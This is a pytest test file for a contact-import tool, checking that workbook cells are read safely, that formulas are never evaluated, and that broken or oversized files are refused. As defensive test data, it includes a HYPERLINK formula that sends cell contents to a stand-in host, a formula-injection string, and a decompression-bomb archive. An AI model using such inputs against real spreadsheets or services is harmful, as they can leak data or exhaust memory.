"""Workbooks: what comes out of their cells, and that nothing in them is run."""

import zipfile
from datetime import date, datetime, time
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from nurture.conditions import FieldType
from nurture.consent.statements import read_statement
from nurture.contacts.fields import DeclaredField
from nurture.contacts.imports import ImportRow, RefusedRow, read_rows, survey
from nurture.contacts.spreadsheets import Worksheet, write_workbook
from nurture.errors import BadInput

DECLARED = {
    "company_size": DeclaredField("company_size", FieldType.NUMBER, "Company size"),
    "since": DeclaredField("since", FieldType.DATE, "Since"),
    "is_pilot": DeclaredField("is_pilot", FieldType.FLAG, "Is pilot"),
}


@pytest.fixture
def file(tmp_path: Path) -> Path:
    return tmp_path / "people.xlsx"


def people_of(file: Path) -> list[ImportRow | RefusedRow]:
    return list(read_rows(survey(file, DECLARED), DECLARED))


def test_cells_come_out_as_what_they_are_and_rows_by_the_number_beside_them(file: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([])
    sheet.append(["E-Mail", "Company size", "Since", "Is pilot", "Consent date", "Company"])
    sheet.append(["ana@reader.example", 120.0, date(2025, 1, 31), True, datetime(2024, 5, 6, 10, 30), "Müller & Söhne"])
    sheet.append([])
    sheet.append(["nobody", None, None, None, None, None])
    sheet.append(["bea@reader.example", 1234.5, datetime(2025, 2, 1), False, None, 42])
    book.save(file)
    ana, refused, bea = people_of(file)
    assert isinstance(ana, ImportRow)
    assert isinstance(bea, ImportRow)
    assert isinstance(refused, RefusedRow)
    assert ana.values == {"company_size": 120, "since": "2025-01-31", "is_pilot": True, "company": "Müller & Söhne"}
    assert ana.permission == ((("consent_on", "2024-05-06 10:30:00"),),)
    assert bea.values == {"company_size": 1234.5, "since": "2025-02-01", "is_pilot": False, "company": "42"}
    assert [ana.line, refused.line, bea.line] == [3, 5, 6]


def test_of_a_formula_the_saved_result_is_read_and_never_the_formula(file: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["email", "company", "job title"])
    sheet.append(["ana@reader.example", '=HYPERLINK("http://elsewhere.example/"&A1)', "#REF!"])
    book.save(file)
    (ana,) = people_of(file)
    assert isinstance(ana, ImportRow)
    assert ana.values == {}  # nobody ever calculated it


def test_a_formula_nobody_calculated_is_no_yes_where_it_may_have_said_no(file: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["email", "company", "Unsubscribed"])
    sheet.append(["ana@reader.example", "Acme", '=IF(B2="Acme","yes","no")'])
    sheet.append(["bea@reader.example", "Acme", None])
    book.save(file)
    ana, bea = people_of(file)
    assert isinstance(ana, ImportRow)
    assert isinstance(bea, ImportRow)
    statement = read_statement(ana, date(2026, 3, 10))
    assert not statement.is_silent
    assert not statement.bases
    assert read_statement(bea, date(2026, 3, 10)).is_silent


def test_a_formula_that_failed_is_no_yes_where_it_may_have_said_no(file: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["email", "first_name", "Unsubscribed"])
    sheet.append(["ana@reader.example", "#REF!", "#REF!"])
    book.save(file)
    (ana,) = people_of(file)
    assert isinstance(ana, ImportRow)
    assert ana.values == {}
    statement = read_statement(ana, date(2026, 3, 10))
    assert not statement.is_silent
    assert not statement.bases


def test_a_workbook_made_to_fill_a_memory_is_not_unpacked(file: Path) -> None:
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as parts:
        parts.writestr("xl/worksheets/sheet1.xml", b"a" * (65 * 1024 * 1024))
    with pytest.raises(BadInput, match="hundreds of times as large"):
        people_of(file)


def test_the_worksheet_with_the_best_headers_is_read_and_the_others_are_named(file: Path) -> None:
    book = Workbook()
    first = book.active
    assert first is not None
    first.title = "Read me"
    first.append(["A list of people"])
    people = book.create_sheet("People")
    people.append(["email", "company"])
    people.append(["ana@reader.example", "Acme"])
    hidden = book.create_sheet("Old")
    hidden.append(["email", "company", "country"])
    hidden.sheet_state = "hidden"
    book.save(file)
    sheet = survey(file, DECLARED).sheet
    assert isinstance(sheet, Worksheet)
    assert (sheet.title, sheet.further, sheet.format) == ("People", ("Read me", "Old"), "xlsx")


def test_times_and_long_numbers_lose_nothing(file: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["email", "company", "job title"])
    sheet.append(["ana@reader.example", time(9, 30), 491701234567])
    book.save(file)
    (ana,) = people_of(file)
    assert isinstance(ana, ImportRow)
    assert ana.values == {"company": "09:30:00", "job_title": "491701234567"}


def test_what_is_written_is_read_back_and_holds_no_formula(file: Path) -> None:
    rows = [
        ["ana@reader.example", "'=1+1", 120, date(2025, 1, 31), None],
        ["bea@reader.example", "a\x07b", 1.5, None, "x"],
    ]
    assert write_workbook(file, ["email", "company", "company_size", "since", "job_title"], rows) == 2
    ana, bea = people_of(file)
    assert isinstance(ana, ImportRow)
    assert isinstance(bea, ImportRow)
    assert ana.values == {"company": "=1+1", "company_size": 120, "since": "2025-01-31"}
    assert bea.values == {"company": "ab", "company_size": 1.5, "job_title": "x"}
    kinds = {cell.data_type for row in load_workbook(file).worksheets[0].iter_rows() for cell in row}
    assert "f" not in kinds


def test_a_broken_workbook_is_said_to_be_one_wherever_it_breaks(file: Path) -> None:
    write_workbook(file, ["email"], [["ana@reader.example"]])
    broken = file.with_name("broken.xlsx")
    with zipfile.ZipFile(file) as whole, zipfile.ZipFile(broken, "w") as other:
        for part in whole.infolist():
            content = whole.read(part)
            other.writestr(part, content[: len(content) // 2] if "sheet1" in part.filename else content)
    with pytest.raises(BadInput, match=r"broken\.xlsx: this is no workbook that can be read"):
        people_of(broken)
    with zipfile.ZipFile(file, "w") as other:
        other.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
    with pytest.raises(BadInput, match=r"save it as \.xlsx or CSV"):
        people_of(file)


def test_an_empty_workbook_is_empty(file: Path) -> None:
    Workbook().save(file)
    with pytest.raises(BadInput, match="the file is empty"):
        people_of(file)
